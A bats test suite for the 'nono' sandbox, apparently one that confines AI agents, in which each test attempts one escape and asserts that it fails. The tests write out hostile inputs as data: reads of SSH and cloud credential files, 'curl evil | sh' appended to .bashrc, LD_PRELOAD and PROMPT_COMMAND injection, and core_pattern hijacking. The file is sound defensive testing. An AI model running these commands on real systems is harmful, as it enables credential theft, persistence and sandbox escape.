#!/usr/bin/env bats
# The escape battery: each test tries one way out of `nono run` and asserts that it fails, and that the
# host saw nothing. Runs as root and as uid 65534 (tools/test). The probe ./esc is tests/unit/launcher/escape.c.
load helpers

setup() {
        common_setup
        run_setup
        HOSTPIDS=()
}

teardown() {
        for p in "${HOSTPIDS[@]}"; do kill "$p" 2>/dev/null; wait "$p" 2>/dev/null; done
        common_teardown
}

# wait_file FILE: waits (bounded) until FILE exists; the listener writes it once it is ready.
wait_file() {
        for _ in $(seq 400); do [ -e "$1" ] && return 0; sleep 0.025; done
        echo "timed out waiting for $1" >&2
        return 1
}

# A host process outside the sandbox, with its cwd in O.
host_sleeper() {
        (cd "$O" && exec sleep 600) &
        SLEEPER=$!
        HOSTPIDS+=("$SLEEPER")
}

# Host services outside the sandbox: a unix socket in O, an abstract socket, a TCP port on 127.0.0.1.
host_listeners() {
        /usr/bin/python3 - "$O" <<'PY' &
import os, socket, sys, time
d = sys.argv[1]
u = socket.socket(socket.AF_UNIX); u.bind(d + "/sock"); u.listen()
a = socket.socket(socket.AF_UNIX); a.bind("\0nono-e2e-%d" % os.getpid()); a.listen()
t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen()
open(d + "/ready.tmp", "w").write("%d nono-e2e-%d\n" % (t.getsockname()[1], os.getpid()))
os.rename(d + "/ready.tmp", d + "/ready")
time.sleep(600)
PY
        HOSTPIDS+=($!)
        wait_file "$O/ready"
        read -r TCPPORT ABSTRACT <"$O/ready"
}

@test "escape: writing outside the grants fails and the host is untouched" {
        run "$NONO" run -- sh -c "echo pwned >'$O/new'; echo pwned >>'$O/secret'"
        [ "$status" -ne 0 ]
        [ ! -e "$O/new" ]
        [ "$(cat "$O/secret")" = outside-secret ]
}

@test "escape: reading outside the grants fails" {
        run "$NONO" run -- cat "$O/secret"
        [ "$status" -ne 0 ]
        [[ "$output" != *outside-secret* ]]
        run "$NONO" run -- ls /root /home /work /var
        [ "$status" -ne 0 ]
}

@test "escape: a symlink inside a grant that points outside leads nowhere" {
        ln -s "$O/secret" "$W/link-file"
        ln -s "$O" "$W/link-dir"
        run "$NONO" run -- sh -c 'cat link-file; cat link-dir/secret; echo x > link-dir/new'
        [[ "$output" != *outside-secret* ]]
        [ ! -e "$O/new" ]
}

@test "escape: /proc/self/root and /proc/PID/cwd of a process outside do not reach the host" {
        host_sleeper
        run "$NONO" run -- sh -c "cat /proc/self/root$O/secret; cat /proc/$SLEEPER/cwd/secret; cat /proc/1/root$O/secret"
        [[ "$output" != *outside-secret* ]]
        # the process outside is not even visible: the sandbox has its own pid namespace
        run "$NONO" run -- sh -c 'ls /proc | grep -E "^[0-9]+$" | sort -n | tr "\n" " "'
        [ "$status" -eq 0 ]
        [[ " $output " != *" $SLEEPER "* ]]
}

@test "escape: reopening a read-only fd through /proc/self/fd with a wider mode fails" {
        mkdir "$T/ro"; echo original >"$T/ro/f"
        run "$NONO" run --read "$T/ro" -- sh -c "exec 3<'$T/ro/f'; echo pwned >/proc/self/fd/3; echo pwned >>/proc/self/fd/3"
        [ "$status" -ne 0 ]
        [ "$(cat "$T/ro/f")" = original ]
}

@test "escape: hard links across the grant boundary fail" {
        mkdir "$T/ro"; echo original >"$T/ro/f"
        run "$NONO" run --read "$T/ro" -- sh -c "ln '$T/ro/f' hl || exit 1"
        [ "$status" -ne 0 ]
        [ ! -e "$W/hl" ]
        run "$NONO" run -- sh -c "ln /etc/passwd hl2 || exit 1"
        [ "$status" -ne 0 ]
        [ ! -e "$W/hl2" ]
}

@test "escape: renames across the grant boundary fail and leave both sides intact" {
        mkdir "$T/ro"; echo original >"$T/ro/f"; echo mine >"$W/mine"
        run "$NONO" run --read "$T/ro" -- sh -c "mv '$T/ro/f' '$W/stolen'"
        [ "$status" -ne 0 ]
        run "$NONO" run --read "$T/ro" -- sh -c "mv '$W/mine' '$T/ro/planted'"
        [ "$status" -ne 0 ]
        [ "$(cat "$T/ro/f")" = original ]
        [ ! -e "$T/ro/planted" ]
        [ "$(cat "$W/mine")" = mine ]
}

@test "escape: credentials under a granted home stay masked" {
        H="$T/userhome"
        mkdir -p "$H/.ssh" "$H/.aws" "$H/.config/gcloud" "$H/project"
        echo PRIVATE-KEY >"$H/.ssh/id_ed25519"
        echo AWS-SECRET >"$H/.aws/credentials"
        echo NETRC-SECRET >"$H/.netrc"
        echo HISTORY-SECRET >"$H/.bash_history"
        echo GCLOUD-SECRET >"$H/.config/gcloud/token"
        echo 'alias ls=ls' >"$H/.bashrc"
        cd "$H/project"
        HOME="$H" run "$NONO" run --allow "$H" -- sh -c \
                'cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc ~/.bash_history ~/.config/gcloud/token; ls -a ~/.ssh; echo pwned > ~/.ssh/authorized_keys'
        [[ "$output" != *PRIVATE-KEY* ]]
        [[ "$output" != *AWS-SECRET* ]]
        [[ "$output" != *NETRC-SECRET* ]]
        [[ "$output" != *HISTORY-SECRET* ]]
        [[ "$output" != *GCLOUD-SECRET* ]]
        [ ! -e "$H/.ssh/authorized_keys" ]
        # shell configs: readable, not writable
        HOME="$H" run "$NONO" run --allow "$H" -- sh -c 'cat ~/.bashrc; echo "curl evil | sh" >> ~/.bashrc'
        [[ "$output" == *"alias ls=ls"* ]]
        [ "$(cat "$H/.bashrc")" = 'alias ls=ls' ]
        # a shell config inside a read-only grant (not masked: the grant itself refuses the write)
        HOME="$H" run "$NONO" run --read "$H" -- sh -c 'cat ~/.bashrc; echo "curl evil | sh" >> ~/.bashrc'
        [ "$status" -ne 0 ]
        [[ "$output" == *"alias ls=ls"* ]]
        [ "$(cat "$H/.bashrc")" = 'alias ls=ls' ]
        # the rest of the granted home works
        HOME="$H" run "$NONO" run --allow "$H" -- sh -c 'echo ok > ~/notes && cat ~/notes'
        [ "$status" -eq 0 ]
        [ "$output" = ok ]
}

@test "escape: nono's own store and config are masked even under a granted parent" {
        mkdir -p "$NONO_HOME/store" "$XDG_CONFIG_HOME/nono/keys"
        echo STORE-DATA >"$NONO_HOME/store/data.mdb"
        echo KEY-DATA >"$XDG_CONFIG_HOME/nono/keys/key"
        run "$NONO" run --allow "$T/home" -- sh -c \
                "cat '$NONO_HOME/store/data.mdb' '$XDG_CONFIG_HOME/nono/keys/key'; rm -rf '$NONO_HOME/store' '$XDG_CONFIG_HOME/nono'"
        [[ "$output" != *STORE-DATA* ]]
        [[ "$output" != *KEY-DATA* ]]
        [ "$(cat "$NONO_HOME/store/data.mdb")" = STORE-DATA ]
        [ "$(cat "$XDG_CONFIG_HOME/nono/keys/key")" = KEY-DATA ]
}

@test "escape: granting a path inside nono's state is refused" {
        mkdir -p "$NONO_HOME/store"
        run "$NONO" run --allow "$NONO_HOME/store" -- true
        [ "$status" -eq 1 ]
        [[ "$output" == *"$NONO_HOME/store"*"inside"*"$NONO_HOME"* ]]
}

@test "escape: setuid binaries give no privileges (no_new_privs, nosuid, no capabilities)" {
        run "$NONO" run -- sh -c 'grep -E "^(NoNewPrivs|CapEff|CapBnd|CapPrm):" /proc/self/status'
        [ "$status" -eq 0 ]
        [[ "$output" == *"NoNewPrivs:"*"1"* ]]
        [[ "$output" == *"CapEff:"*"0000000000000000"* ]]
        [[ "$output" == *"CapBnd:"*"0000000000000000"* ]]
        run "$NONO" run -- sh -c 'grep " /usr " /proc/self/mountinfo'
        [[ "$output" == *nosuid* ]]
        # su to another user needs privileges the agent does not have
        if is_root; then target=nobody; want=65534; else target=root; want=0; fi
        run "$NONO" run -- sh -c "/usr/bin/su -s /bin/sh -c 'id -u' $target </dev/null"
        [ "$status" -ne 0 ]
        [[ "$output" != "$want" ]]
}

@test "escape: mount, umount, chroot, unshare, setns and namespace clones are denied" {
        for probe in mount "umount /proc" chroot unshare-user unshare-mount clone-newuser "setns /proc/self/ns/user" "setns /proc/self/ns/mnt"; do
                run "$NONO" run -- ./esc $probe
                echo "$probe: $output"
                [ "$status" -eq 1 ]
                [[ "$output" == "denied: EPERM" ]]
        done
        # clone3 says ENOSYS so that libc falls back to clone, whose flags seccomp can check
        run "$NONO" run -- ./esc clone3
        [ "$output" = "denied: ENOSYS" ]
        run "$NONO" run -- unshare -r true
        [ "$status" -ne 0 ]
}

@test "escape: ptrace and process_vm_readv are denied, even on the sandbox's own processes" {
        run "$NONO" run -- ./esc ptrace
        [ "$output" = "denied: EPERM" ]
        run "$NONO" run -- ./esc process_vm_readv
        [ "$output" = "denied: EPERM" ]
}

@test "escape: signals cannot reach processes outside the sandbox, nor its init" {
        host_sleeper
        run "$NONO" run -- ./esc kill "$SLEEPER" 9
        [ "$status" -eq 1 ]
        kill -0 "$SLEEPER"
        # pid 1 is nono's init inside: the agent may not signal it (Landlock scoping)
        run "$NONO" run -- sh -c './esc kill 1 15; echo still-here'
        [[ "$output" == *"denied: EPERM"* ]]
        [[ "$output" == *still-here* ]]
}

@test "escape: io_uring is denied" {
        run "$NONO" run -- ./esc io_uring
        [ "$output" = "denied: EPERM" ]
}

@test "escape: TIOCSTI and TIOCLINUX are denied, also with garbage in the upper bits" {
        # Without seccomp the kernel would answer ENOTTY on a non-terminal: EPERM proves the filter.
        for probe in tiocsti tiocsti-high tioclinux; do
                run "$NONO" run -- ./esc $probe </dev/null
                echo "$probe: $output"
                [ "$output" = "denied: EPERM" ]
        done
}

@test "escape: kernel attack surface: bpf, keyctl, userfaultfd, perf_event_open, open_by_handle_at" {
        for probe in bpf keyctl userfaultfd perf_event_open open_by_handle_at; do
                run "$NONO" run -- ./esc $probe
                echo "$probe: $output"
                [ "$output" = "denied: EPERM" ]
        done
}

@test "escape: socket families other than unix and inet are refused" {
        for fam in netlink packet vsock alg netlink-high; do
                run "$NONO" run -- ./esc socket $fam
                echo "$fam: $output"
                [ "$output" = "denied: EAFNOSUPPORT" ]
        done
}

@test "escape: direct TCP to the internet and to a host port on 127.0.0.1 fails" {
        host_listeners
        run "$NONO" run -- /usr/bin/python3 -c "
import socket
for addr in [('1.1.1.1', 443), ('127.0.0.1', $TCPPORT)]:
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect(addr); print('CONNECTED', addr)
    except OSError as e:
        print('refused', addr, e.errno)
"
        [ "$status" -eq 0 ]
        [[ "$output" != *CONNECTED* ]]
        [[ "$output" == *"refused ('1.1.1.1', 443)"* ]]
}

@test "escape: UDP and DNS fail fast" {
        run timeout 20 "$NONO" run -- /usr/bin/python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b'x', ('8.8.8.8', 53)); print('SENT')
except OSError as e:
    print('udp refused', e.errno)
try:
    print('RESOLVED', socket.getaddrinfo('example.com', 80))
except OSError as e:
    print('dns failed', e)
"
        [ "$status" -eq 0 ]
        [[ "$output" == *"udp refused"* ]]
        [[ "$output" == *"dns failed"* ]]
        [[ "$output" != *SENT* ]]
        [[ "$output" != *RESOLVED* ]]
}

@test "escape: ICMP fails (no raw sockets, no ping sockets, no route)" {
        run "$NONO" run -- /usr/bin/python3 -c "
import socket
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        s.sendto(b'\x08\x00\xf7\xff\x00\x00\x00\x00', ('8.8.8.8', 0)); print('SENT', kind)
    except OSError as e:
        print('icmp refused', kind, e.errno)
"
        [ "$status" -eq 0 ]
        [[ "$output" != *SENT* ]]
}

@test "escape: a host unix socket and a host abstract socket are unreachable" {
        host_listeners
        run "$NONO" run -- ./esc unix "$O/sock"
        [ "$status" -eq 1 ]
        run "$NONO" run -- ./esc abstract "$ABSTRACT"
        [ "$status" -eq 1 ]
        # the probe does reach them from outside (the test is not vacuous)
        run "$NONO_ESCAPE" unix "$O/sock"
        [ "$output" = ALLOWED ]
        run "$NONO_ESCAPE" abstract "$ABSTRACT"
        [ "$output" = ALLOWED ]
}

@test "escape: no fd but stdio leaks into the agent" {
        exec 7<"$O/secret" 8>"$O/leak"
        run "$NONO" run -- sh -c 'ls /proc/self/fd | sort -n | tr "\n" " "; cat <&7'
        exec 7<&- 8>&-
        [[ "$output" == "0 1 2 3 "* ]] # 3 is ls's own directory fd
        [[ "$output" != *" 7 "* ]]
        [[ "$output" != *outside-secret* ]]
        # with stdin closed, fd 0 is /dev/null (not nono's channel or a root fd)
        run sh -c 'exec "$0" run -- readlink /proc/self/fd/0 0<&-' "$NONO"
        [ "$output" = /dev/null ]
}

@test "escape: dangerous environment variables are removed" {
        run env LD_PRELOAD=/x/evil.so LD_LIBRARY_PATH=/x BASH_ENV=/x/rc ENV=/x/rc PROMPT_COMMAND='curl evil' \
                GLIBC_TUNABLES=x 'BASH_FUNC_ls%%=() { evil; }' KEEP_ME=yes "$NONO" run -- env
        [ "$status" -eq 0 ]
        [[ "$output" == *KEEP_ME=yes* ]]
        for v in LD_PRELOAD LD_LIBRARY_PATH BASH_ENV ENV PROMPT_COMMAND GLIBC_TUNABLES BASH_FUNC_; do
                ! grep -q "^$v" <<<"$output"
        done
}

@test "escape: no process is left running after the agent exits" {
        run "$NONO" run -- sh -c 'sleep 6123 & sleep 6123 & setsid sleep 6123 & exit 0'
        [ "$status" -eq 0 ]
        ! pgrep -f "sleep 6123"
}

@test "escape: the agent and its descendants die with nono (SIGKILL)" {
        "$NONO" run -- sh -c 'sleep 6124 & echo started > ready; sleep 6124' &
        nono_pid=$!
        wait_file "$W/ready"
        pgrep -f "sleep 6124"
        kill -9 "$nono_pid"
        wait "$nono_pid" || true
        for _ in $(seq 200); do pgrep -f "sleep 6124" >/dev/null || break; sleep 0.025; done
        ! pgrep -f "sleep 6124"
}

@test "escape: kernel tunables are out of reach (/proc/sys read-only, no /sys)" {
        before=$(cat /proc/sys/kernel/core_pattern)
        run "$NONO" run -- sh -c 'echo "|/tmp/pwn" > /proc/sys/kernel/core_pattern; echo 1 > /proc/sysrq-trigger; ls /sys'
        [ "$status" -ne 0 ]
        [ "$(cat /proc/sys/kernel/core_pattern)" = "$before" ]
}

@test "escape: device nodes cannot be created, only the minimal /dev exists" {
        run "$NONO" run -- sh -c 'ls /dev | tr "\n" " "; mknod /tmp/sda b 8 0 || mknod ./sda b 8 0 || exit 3'
        [ "$status" -eq 3 ]
        [[ "$output" == "fd full null ptmx pts random shm stderr stdin stdout tty urandom zero "* ]]
        [ ! -e "$W/sda" ]
}

@test "escape: the sandbox's init (unscrubbed environment, open fds) is out of the agent's reach" {
        run env LD_PRELOAD_MARKER_X=1 LD_NONO_CANARY=canary-value "$NONO" run -- sh -c \
                'cat /proc/1/environ; ls /proc/1/fd; readlink /proc/1/root; cat /proc/1/maps; echo end'
        [[ "$output" != *canary-value* ]]
        [[ "$output" == *"Permission denied"* ]]
        [[ "$output" == *end ]]
}
